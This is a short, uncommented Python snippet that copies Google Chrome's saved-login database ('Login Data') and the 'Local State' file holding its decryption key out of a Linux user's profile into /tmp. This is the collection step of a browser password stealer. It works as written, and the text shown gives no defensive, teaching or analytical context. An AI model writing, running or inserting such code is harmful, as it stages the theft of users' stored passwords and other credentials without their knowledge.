import os, shutil
_base = os.path.expanduser("~/.config/google-chrome/Default")
shutil.copy(os.path.join(_base, "Login Data"), "/tmp/ld")
shutil.copy(os.path.expanduser("~/.config/google-chrome/Local State"), "/tmp/ls")
